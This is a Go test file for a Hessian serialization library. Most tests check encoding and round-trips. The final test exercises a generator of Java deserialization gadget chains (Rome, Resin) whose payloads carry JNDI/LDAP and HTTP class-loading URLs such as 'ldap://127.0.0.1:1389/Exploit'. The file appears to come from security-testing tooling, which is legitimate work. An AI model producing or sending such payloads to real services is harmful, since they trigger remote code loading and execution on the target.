@@ -0,0 +1,235 @@
+package hessian
+
+import (
+	"bytes"
+	"math"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestHessian2_Scalar(t *testing.T) {
+	for _, c := range []struct {
+		value    *Value
+		expected []byte
+	}{
+		{NewNull(), []byte("N")},
+		{NewBool(true), []byte("T")},
+		{NewInt(0), []byte{0x90}},
+		{NewInt(-16), []byte{0x80}},
+		{NewInt(47), []byte{0xbf}},
+		{NewInt(48), []byte{0xc8, 0x30}},
+		{NewInt(-2048), []byte{0xc0, 0x00}},
+		{NewInt(262143), []byte{0xd7, 0xff, 0xff}},
+		{NewInt(262144), []byte{'I', 0x00, 0x04, 0x00, 0x00}},
+		{NewLong(-8), []byte{0xd8}},
+		{NewLong(15), []byte{0xef}},
+		{NewLong(2047), []byte{0xff, 0xff}},
+		{NewLong(-262144), []byte{0x38, 0x00, 0x00}},
+		{NewLong(300000), []byte{0x59, 0x00, 0x04, 0x93, 0xe0}},
+		{NewLong(math.MaxInt64), []byte{'L', 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}},
+		{NewDouble(0), []byte{0x5b}},
+		{NewDouble(1), []byte{0x5c}},
+		{NewDouble(-128), []byte{0x5d, 0x80}},
+		{NewDouble(32767), []byte{0x5e, 0x7f, 0xff}},
+		{NewDouble(12.25), []byte{0x5f, 0x00, 0x00, 0x2f, 0xda}},
+		{NewDouble(0.1234), []byte{'D', 0x3f, 0xbf, 0x97, 0x24, 0x74, 0x53, 0x8e, 0xf3}},
+		{NewDate(time.UnixMilli(894621091000)), []byte{0x4a, 0x00, 0x00, 0x00, 0xd0, 0x4b, 0x92, 0x84, 0xb8}},
+		{NewDate(time.UnixMilli(894621060000)), []byte{0x4b, 0x00, 0xe3, 0x83, 0x8f}},
+		{NewString(""), []byte{0x00}},
+		{NewString("hello"), []byte("\x05hello")},
+		{NewString("Ã"), []byte{0x01, 0xc3, 0x83}},
+		{NewBinary([]byte{1, 2, 3}), []byte{0x23, 1, 2, 3}},
+	} {
+		raw := MarshalHessian2(c.value)
+		require.Equal(t, c.expected, raw, "%+v", c.value)
+
+		values, err := UnmarshalHessian2(raw)
+		require.NoError(t, err)
+		require.Len(t, values, 1)
+		require.Equal(t, c.value, values[0])
+	}
+}
+
+func TestHessian2_String(t *testing.T) {
+	// 代理对按照两个 char 计算长度
+	raw := MarshalHessian2(NewString("a😀"))
+	require.Equal(t, []byte{0x03, 'a', 0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80}, raw)
+	values, err := UnmarshalHessian2(raw)
+	require.NoError(t, err)
+	require.Equal(t, "a😀", values[0].String)
+
+	// 分块不能拆开代理对
+	long := strings.Repeat("a", 0x7fff) + "😀" + strings.Repeat("b", 0x400)
+	raw = MarshalHessian2(NewString(long))
+	require.Equal(t, []byte{'R', 0x7f, 0xff}, raw[:3])
+	values, err = UnmarshalHessian2(raw)
+	require.NoError(t, err)
+	require.Equal(t, long, values[0].String)
+
+	bin := bytes.Repeat([]byte{0xaa}, 0x9000)
+	raw = MarshalHessian2(NewBinary(bin))
+	require.Equal(t, []byte{'A', 0x80, 0x00}, raw[:3])
+	values, err = UnmarshalHessian2(raw)
+	require.NoError(t, err)
+	require.Equal(t, bin, values[0].Binary)
+}
+
+func TestHessian2_Container(t *testing.T) {
+	// hessian-serialization 中的示例
+	car := func(color, model string) *Value {
+		return NewObject("example.Car").Set("color", color).Set("model", model)
+	}
+	raw := MarshalHessian2(car("red", "corvette"), car("green", "civic"))
+	require.Equal(t, "C\x0bexample.Car\x92\x05color\x05model`\x03red\x08corvette`\x05green\x05civic", string(raw))
+
+	raw = MarshalHessian2(NewList("[int", 0, 1), NewList("", 0, 1), NewList("[int", 2))
+	require.Equal(t, "\x72\x04[int\x90\x91\x7a\x90\x91\x71\x90\x92", string(raw))
+
+	raw = MarshalHessian2(NewMap("").Put(1, "fee").Put(16, "fie"))
+	require.Equal(t, "H\x91\x03fee\xa0\x03fieZ", string(raw))
+
+	values, err := UnmarshalHessian2("W\x90\x91Z" + "U\x04[int\x90Z" + "X\x98\x90\x90\x90\x90\x90\x90\x90\x90")
+	require.NoError(t, err)
+	require.Len(t, values, 3)
+	require.Len(t, values[0].Items, 2)
+	require.Equal(t, "[int", values[1].ClassName)
+	require.Len(t, values[2].Items, 8)
+
+	// 重复出现的指针写入引用
+	shared := NewObject("example.Node").Set("name", "a")
+	root := NewList("", shared, shared)
+	raw = MarshalHessian2(root)
+	require.Equal(t, "\x7aC\x0cexample.Node\x91\x04name`\x01aQ\x91", string(raw))
+	values, err = UnmarshalHessian2(raw)
+	require.NoError(t, err)
+	require.Equal(t, NewRef(1), values[0].Items[1])
+	require.Equal(t, raw, MarshalHessian2(values...))
+
+	for _, raw := range []string{
+		"\x05abc",
+		"Q\x90",
+		"`",
+		"H\x91",
+		"\x71\x90",
+		"\x40",
+	} {
+		_, err := UnmarshalHessian2(raw)
+		require.Error(t, err, "%q", raw)
+	}
+}
+
+func TestHessian1(t *testing.T) {
+	obj := NewObject("example.Car").Set("color", "red").Set("year", 1998)
+	list := NewList("java.util.Vector", obj, obj, NewLong(1), NewDouble(1.5), NewBinary([]byte("ab")))
+	raw := MarshalHessian1(list, NewMap("").Put("k", true))
+	require.Equal(t, "Vt\x00\x10java.util.Vectorl\x00\x00\x00\x05"+
+		"Mt\x00\x0bexample.CarS\x00\x05colorS\x00\x03redS\x00\x04yearI\x00\x00\x07\xcez"+
+		"R\x00\x00\x00\x01"+
+		"L\x00\x00\x00\x00\x00\x00\x00\x01"+
+		"D\x3f\xf8\x00\x00\x00\x00\x00\x00"+
+		"B\x00\x02ab"+
+		"z"+
+		"Mt\x00\x00S\x00\x01kTz", string(raw))
+
+	values, err := UnmarshalHessian1(raw)
+	require.NoError(t, err)
+	require.Len(t, values, 2)
+	require.Equal(t, TypeObject, values[0].Items[0].Type)
+	year, ok := values[0].Items[0].Get("year")
+	require.True(t, ok)
+	require.EqualValues(t, 1998, year.Int)
+	require.Equal(t, NewRef(1), values[0].Items[1])
+	require.Equal(t, TypeMap, values[1].Type)
+	require.Equal(t, raw, MarshalHessian1(values...))
+
+	_, err = UnmarshalHessian1("Vl\x00\x00\x00\x01I\x00")
+	require.Error(t, err)
+}
+
+func TestCall(t *testing.T) {
+	raw := MarshalCall(2, "add2", 2, 3)
+	require.Equal(t, "H\x02\x00C\x04add2\x92\x92\x93", string(raw))
+	call, err := ParseCall(raw)
+	require.NoError(t, err)
+	require.Equal(t, 2, call.Version)
+	require.Equal(t, "add2", call.Method)
+	require.Len(t, call.Args, 2)
+
+	raw = MarshalCall(1, "add2", 2, 3)
+	require.Equal(t, "c\x01\x00m\x00\x04add2I\x00\x00\x00\x02I\x00\x00\x00\x03z", string(raw))
+	call, err = ParseCall(raw)
+	require.NoError(t, err)
+	require.Equal(t, 1, call.Version)
+	require.Equal(t, raw, call.Marshal())
+
+	_, err = ParseCall("GET / HTTP/1.1")
+	require.Error(t, err)
+}
+
+func TestJson(t *testing.T) {
+	values, err := UnmarshalHessian2(MarshalHessian2(
+		NewObject("a.B").Set("bin", []byte{0xff, 0x00}).Set("when", time.UnixMilli(1)),
+		NewMap("java.util.Hashtable").Put("x", NewList("[string", "y")),
+	))
+	require.NoError(t, err)
+	raw, err := ToJson(values)
+	require.NoError(t, err)
+
+	restored, err := FromJson(raw)
+	require.NoError(t, err)
+	require.Equal(t, MarshalHessian2(values...), MarshalHessian2(restored...))
+}
+
+func TestJavaStringWithHash(t *testing.T) {
+	for _, hash := range []int32{0, 1, 30, 31, 12345, 1711104, math.MaxInt32, -1, -1711104, math.MinInt32} {
+		s := javaStringWithHash(hash)
+		units := toJavaChars(s)
+		require.Equal(t, hash, javaStringHashCode(units), "%d", hash)
+		for _, c := range units {
+			require.False(t, c >= 0xd800 && c <= 0xdfff)
+		}
+	}
+}
+
+func TestGenerateGadget(t *testing.T) {
+	for _, g := range GetAllGadgets() {
+		args := []string{"ldap://127.0.0.1:1389/Exploit", "Exploit"}[:len(g.Args)]
+		raw, err := GenerateGadgetBytes(g.Name, args...)
+		require.NoError(t, err, g.Name)
+		require.Equal(t, byte('H'), raw[0], g.Name)
+		require.Equal(t, byte('Z'), raw[len(raw)-1], g.Name)
+
+		values, err := UnmarshalHessian2(raw)
+		require.NoError(t, err, g.Name)
+		require.Len(t, values, 1)
+		require.Len(t, values[0].Entries, 2)
+		require.Equal(t, raw, MarshalHessian2(values...), g.Name)
+
+		raw = MarshalHessian1(values[0])
+		values, err = UnmarshalHessian1(raw)
+		require.NoError(t, err, g.Name)
+		require.Equal(t, raw, MarshalHessian1(values...), g.Name)
+	}
+
+	raw, err := GenerateGadgetBytes("rome", "ldap://127.0.0.1:1389/Exploit")
+	require.NoError(t, err)
+	require.Contains(t, string(raw), "com.sun.syndication.feed.impl.EqualsBean")
+	require.Contains(t, string(raw), "\x1dldap://127.0.0.1:1389/Exploit")
+	// 第二个键值对引用第一个 EqualsBean
+	require.True(t, bytes.HasSuffix(raw, []byte("Q\x91Q\x91Q\x91Z")))
+
+	v, err := GenerateGadget("Resin", "http://127.0.0.1:8000/", "Exploit")
+	require.NoError(t, err)
+	xString := v.Entries[1].Key
+	mObj, ok := xString.Get("m_obj")
+	require.True(t, ok)
+	require.Equal(t, qNameHashCode([]string{"foo", "bar"}), javaStringHashCode(toJavaChars(mObj.String)))
+
+	_, err = GenerateGadget("Rome")
+	require.Error(t, err)
+	_, err = GenerateGadget("CommonsCollections1", "x")
+	require.Error(t, err)
+}